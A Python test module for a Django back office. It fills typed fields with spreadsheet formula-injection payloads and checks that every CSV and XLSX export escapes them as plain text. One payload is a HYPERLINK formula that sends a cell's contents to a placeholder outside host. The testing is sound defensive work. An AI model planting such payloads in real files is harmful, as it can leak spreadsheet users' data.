"""Every CSV and XLSX file the back office writes keeps typed text from running as a formula.

The demo data is seeded once, then every text people type that reaches a file (company, traject, project
and organisation names, reasons, recommendations, communication actions, initiatives, answer statements,
funding sources, aid lines) is replaced by a payload that a spreadsheet would run: ``=HYPERLINK(...)``,
``@SUM(...)``, ``+...``, ``-...``, a tab or a carriage return first. Each export is then read back cell by
cell: in a CSV file a cell that starts like a formula must be a number (``-1,5``); in a workbook no cell
may hold a formula and formula-like text must be text with Excel's quote prefix.
"""

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from funding.aid_register import register_file
from funding.models import AidLine, FundingSource
from participants.models import Application, Company, Evaluation
from reporting.kinds import kinds
from reporting.models import AnswerStatement, Initiative
from reporting.selectors import report_figures
from tests.demo_data import SMALL_POPULATION, demo_data
from trajects.models import CommunicationAction, Organisation, Project, Traject
from voorsprong.models import User
from voorsprong.spreadsheets import FORMULA_STARTS, looks_like_formula

AS_OF = datetime.date(2025, 11, 26)
PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "@SUM(1+1)",
    "+32 2 553 00 00",
    "-1+1",
    "\t=1",
    "\r=1",
)
# The text fields that people type and the files show, per model.
TYPED = {
    Company: ["name"],
    Application: ["reason"],
    Evaluation: ["recommendations"],
    Traject: ["name"],
    Organisation: ["name"],
    Project: ["name"],
    CommunicationAction: ["campaign", "description"],
    Initiative: ["title", "text"],
    AnswerStatement: ["text"],
    FundingSource: ["name"],
    AidLine: ["legal_basis", "grantor"],
}
# Parameters that show every typed name the breakdown has (traject, project, promoter, sector fund).
BREAKDOWNS = (
    {"by": ["traject", "project", "promoter"], "measure": "approved_companies"},
    {"by": ["sector_fund"], "measure": "approved_companies"},
)
NUMBER = re.compile(r"-?\d+(,\d+)?")


def _poison() -> None:
    """Give every typed text a payload, the row's key after it (some names are unique)."""
    for model, fields in TYPED.items():
        for row in model.objects.all():
            payload = PAYLOADS[row.pk % len(PAYLOADS)]
            for field in fields:
                setattr(row, field, f"{payload} {row.pk}")
            row.save(update_fields=fields)


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker):
    """Seed the demo data once for the module, poisoned."""
    with demo_data(django_db_blocker, *SMALL_POPULATION):
        _poison()
        yield


def _report_files():
    """Yield (name, format, bytes) for every CSV and XLSX a report kind renders."""
    for kind in kinds():
        parameter_sets = BREAKDOWNS if kind.key == "breakdown" else [{}]
        if kind.key == "reach":
            parameter_sets = [{"by": "province"}]
        for parameters in parameter_sets:
            figures = report_figures(kind.key, AS_OF, kind.clean_parameters(parameters))
            for fmt in ("csv", "xlsx"):
                if fmt in kind.formats:
                    yield kind.key, fmt, kind.renderers[fmt](figures, lambda step: None)


def assert_csv_is_inert(name: str, content: bytes) -> int:
    """Assert that no cell of the CSV file can run; return how many cells were escaped payloads."""
    escaped = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"):
        for cell in row:
            if looks_like_formula(cell):
                assert NUMBER.fullmatch(cell), f"{name}: the cell {cell!r} would run as a formula"
            escaped += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
    return escaped


def assert_workbook_is_inert(name: str, content: bytes) -> int:
    """Assert that the workbook holds no formula and keeps formula-like text as text; return how many
    such texts it holds."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    for sheet in (part for part in archive.namelist() if part.startswith("xl/worksheets/")):
        xml = archive.read(sheet).decode()
        assert "<f>" not in xml and "<f " not in xml, f"{name}: {sheet} holds a formula"
    escaped = 0
    for worksheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{name}: {cell.coordinate} can run"
                    escaped += 1
    return escaped


def assert_inert(name: str, fmt: str, content: bytes, *, shows_typed_text: bool = True) -> None:
    escaped = (assert_csv_is_inert if fmt == "csv" else assert_workbook_is_inert)(name, content)
    assert escaped or not shows_typed_text, f"{name} ({fmt}) shows none of the payloads, so it proves nothing"


@pytest.mark.django_db
def test_every_report_kind_writes_typed_text_as_text(poisoned):
    files = list(_report_files())
    # Question 244's answer files among them.
    assert {("pq244", "csv"), ("pq244", "xlsx")} <= {(key, fmt) for key, fmt, _content in files}
    for key, fmt, content in files:
        # The reach's cells are provinces, NACE sections and size classes: no text anyone typed.
        assert_inert(key, fmt, content, shows_typed_text=key != "reach")


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_aid_register_writes_typed_text_as_text(poisoned, fmt):
    content, _filename = register_file(datetime.date(2000, 1, 1), datetime.date(2100, 12, 31), fmt)
    assert_inert("aid register", fmt, content)


@pytest.mark.django_db
def test_the_admin_export_of_applications_writes_typed_text_as_text(poisoned, client):
    client.force_login(User.objects.get(username="admin"))
    response = client.get(reverse("admin:participants_application_export"))
    assert response.status_code == 200
    assert_inert("admin export", "csv", b"".join(response.streaming_content))


@pytest.mark.django_db
def test_the_budget_monitor_export_writes_typed_text_as_text(poisoned, client):
    client.force_login(User.objects.get(username="officer"))
    response = client.get(reverse("funding:budget_export"), {"as_of": AS_OF.isoformat()})
    assert response.status_code == 200
    assert_inert("budget monitor", "xlsx", response.content)
